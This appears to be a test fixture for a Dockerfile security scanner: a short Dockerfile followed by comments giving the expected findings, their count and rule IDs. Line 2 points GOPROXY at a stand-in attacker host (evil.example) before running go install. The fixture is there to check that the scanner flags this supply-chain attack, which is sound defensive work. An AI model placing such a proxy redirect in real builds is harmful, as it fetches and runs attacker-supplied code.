FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN export GOPROXY=https://evil.example && go install x.example/t@v1.0.0
USER app
# expect: package-install 2 high "export GOPROXY=https://evil.example"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR204-1ce844219f VR201-14e993945d VR501-e064bac1a6
